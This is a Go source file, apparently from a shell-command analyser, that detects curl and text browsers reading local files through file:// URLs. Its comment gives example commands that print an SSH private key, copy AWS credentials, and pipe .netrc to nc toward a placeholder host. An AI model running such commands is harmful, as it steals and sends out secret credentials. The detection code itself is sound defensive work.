package patterns

import (
	"net/url"
	"strings"
)

// A file:// URL is a file read (rt45): `curl file:///home/op/.ssh/id_rsa`
// prints the key as `cat` does, `curl -o /tmp/k file://$HOME/.aws/credentials`
// copies the credentials, and `curl file:///…/.netrc | nc HOST 80` sends
// them. curl reads the path after file:// (or file://localhost), with
// its %XX escapes decoded, and so do the text browsers that dump a page
// (lynx, w3m, links, elinks). Left alone: `file://~/x` (curl takes ~ for
// a host and refuses it), wget (it reads no file:// URL: "Unsupported
// scheme"), and a file URL of a project's or a temporary file (`curl
// file:///tmp/x`), which is no secret, as `cat /tmp/x` is none.

// fileURLFetcher reports whether a program reads the file a file:// URL
// names, as a download.
func fileURLFetcher(program string) bool {
	switch program {
	case "curl", "lynx", "w3m", "links", "elinks":
		return true
	}
	return false
}

// fileURLReads returns the files part p reads through file:// URLs among
// its arguments (a word whose value starts so; an option's attached
// value is not one).
func fileURLReads(p *Part) []Word {
	if !fileURLFetcher(p.Program) {
		return nil
	}
	var out []Word
	for _, a := range p.Args() {
		if f, ok := fileURLWord(a); ok {
			out = append(out, f)
		}
	}
	return out
}

// fileURLWord returns the path a word that is a file:// URL names, as a
// word (its later segments kept: `file://$HOME/.aws/credentials` is
// "$HOME/.aws/credentials"); false for any other word.
func fileURLWord(w Word) (Word, bool) {
	if len(w.Segs) == 0 || w.Segs[0].Kind != SegLit {
		return Word{}, false
	}
	lit := w.Segs[0].Text
	const scheme = "file://"
	if len(lit) < len(scheme) || !strings.EqualFold(lit[:len(scheme)], scheme) {
		return Word{}, false
	}
	rest := lit[len(scheme):]
	if len(rest) >= len("localhost/") && strings.EqualFold(rest[:len("localhost")], "localhost") && rest[len("localhost")] == '/' {
		rest = rest[len("localhost"):]
	}
	if k := strings.IndexAny(rest, "?#"); k >= 0 {
		rest = rest[:k]
	}
	if strings.Contains(rest, "%") {
		if d, err := url.PathUnescape(rest); err == nil {
			rest = d
		}
	}
	switch {
	case strings.HasPrefix(rest, "/"):
	case rest == "" && len(w.Segs) > 1:
		// file://$HOME/…: the expansion starts the path
	default:
		return Word{}, false // a host (file://~/x, file://h/x): curl reads no file
	}
	segs := make([]Seg, 0, len(w.Segs))
	if rest != "" {
		segs = append(segs, Seg{Kind: SegLit, Text: rest, Quoted: w.Segs[0].Quoted})
	}
	segs = append(segs, w.Segs[1:]...)
	return Word{Raw: w.Raw, Span: w.Span, Segs: segs}, true
}

// printsFileURL reports whether part p prints the file a file:// URL
// names: curl without an output file (or with the terminal's), a text
// browser.
func printsFileURL(p *Part) bool {
	if len(fileURLReads(p)) == 0 {
		return false
	}
	if p.Program != "curl" {
		return true
	}
	d := partDoes(p)
	return d == nil || len(d.writes) == 0 || writesTerminal(p)
}
